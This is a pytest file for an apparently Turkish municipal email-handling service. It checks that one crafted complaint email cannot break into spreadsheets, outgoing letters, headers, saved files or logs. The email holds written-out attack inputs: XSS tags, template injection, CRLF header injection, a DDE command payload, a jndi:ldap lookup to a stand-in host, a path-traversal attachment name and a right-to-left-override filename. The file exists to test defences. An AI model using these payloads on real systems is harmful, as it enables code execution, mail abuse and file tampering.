"""One mail made to break out of everything: the sheet, the letters, their headers, the files, the log."""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from email import message_from_bytes, policy
from email.message import EmailMessage
from hashlib import sha256
from pathlib import Path

import pytest
from openpyxl import load_workbook

from daemon.app import App
from daemon.domain.mail import Arrival
from daemon.settings import example_settings
from tests.outbox import worded

NOW = datetime(2026, 12, 7, 8, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://tuzak.example.net";"Tıkla")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>{{ 7 * 7 }}{% for x in y %}"
HEADER = "Yol\\r\\nBcc: kurban@example.com"
BODY = f"""{FORMULA}: sokakta asfalt çöktü, derin çukurlar oluştu {MARKUP}; asfalt yama yapılmasını arz ederim.
+CMD|' /C calc'!A0 ${{jndi:ldap://tuzak.example.net/a}}
"""


@dataclass
class Office:
    app: App
    folder: Path
    address: str

    def takes(self, raw: bytes) -> None:
        digest = sha256(raw).hexdigest()
        with self.app.ledger.transaction() as tx:
            tx.keep_arrivals([Arrival("file", digest, digest, NOW, raw)], NOW)
        self.app.run_step("reading")
        self.app.run_step("sheets")

    def letters(self) -> list[EmailMessage]:
        with self.app.ledger.view() as view:
            waiting = view.letters_waiting(NOW, 99)
        return [message_from_bytes(worded(self.app, each).mime, policy=policy.default) for each in waiting]


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Office]:
    with App(example_settings(tmp_path), lambda: NOW) as app:
        place = next(p for p in app.office.registry.neighbourhoods if p.headman.emails)
        yield Office(app, tmp_path, place.headman.emails[0])


def evil_mail(sender: str) -> bytes:
    message = EmailMessage()
    message["From"] = f'"{MARKUP[:25]}" <{sender}>'
    message["To"] = "muhtarlik@ornek.bel.tr"
    message["Subject"] = "Yol çukuru {{ 7 * 7 }} <b>acele</b>"
    message["Message-ID"] = "<1@example.com>"
    message.set_content(BODY)
    message.add_attachment(
        b"x", maintype="application", subtype="pdf", filename="../../../../etc/cron.d/x.pdf"
    )
    message.add_attachment(b"y", maintype="application", subtype="pdf", filename='a"\u202efdp.exe')
    raw = message.as_bytes()
    return raw.replace(
        b"Message-ID:", b"Subject-X: =?utf-8?q?Yol=0D=0ABcc=3A_kurban=40example=2Ecom?=\nMessage-ID:"
    )


def test_letters_show_the_words_and_carry_out_none_of_them(office: Office) -> None:
    office.takes(evil_mail(office.address))
    letters = office.letters()
    assert len(letters) >= 2
    for letter in letters:
        html = letter.get_body(("html",)).get_content()
        assert "<script" not in html
        assert "<img src=x" not in html
        assert "49" not in str(letter["Subject"])
        assert letter["Bcc"] is None


@pytest.mark.parametrize(
    "subject", ["=?utf-8?q?Yol=0D=0ABcc=3A_kurban=40example=2Ecom?=", "Yol\r\n\tBcc: kurban@example.com"]
)
def test_no_subject_becomes_another_header(office: Office, subject: str) -> None:
    raw = evil_mail(office.address).replace(b"Subject: Yol", f"Subject: {subject}\nX-Rest: ".encode(), 1)
    office.takes(raw)
    letters = office.letters()
    assert letters
    assert all(letter["Bcc"] is None and "\n" not in str(letter["Subject"]) for letter in letters)


def test_the_sheet_holds_text_and_no_formula_beside_our_own_links(office: Office) -> None:
    office.takes(evil_mail(office.address))
    [path] = [p for p in (office.folder / "tablolar").glob("*.xlsx") if _rows(p)]
    for row in _rows(path):
        for cell in row:
            assert cell.data_type != "f" or not any(word in str(cell.value) for word in ("tuzak", "CMD"))
    texts = [str(cell.value) for row in _rows(path) for cell in row]
    assert any(FORMULA in text for text in texts)


def _rows(path: Path) -> list[tuple]:  # type: ignore[type-arg]
    book = load_workbook(path)
    return (
        [row for row in book["Talepler"].iter_rows(min_row=2) if row[0].value]
        if "Talepler" in book.sheetnames
        else []
    )


def test_files_stay_in_their_folder_under_harmless_names(office: Office) -> None:
    office.takes(evil_mail(office.address))
    written = [
        path for path in office.folder.rglob("*") if path.is_file() and path.suffix in {".pdf", ".exe"}
    ]
    assert len(written) == 2
    folder = office.app.settings.files.folder.resolve()
    assert all(path.resolve().is_relative_to(folder) for path in written)
    assert not any("\u202e" in path.name for path in written)
    assert all(path.stat().st_mode & 0o007 == 0 for path in written)


def test_the_history_can_be_exported_line_by_line(office: Office) -> None:
    office.takes(evil_mail(office.address))
    lines = list(office.app.export_history())
    assert len(lines) >= 2
    assert all(json.loads(line) for line in lines)
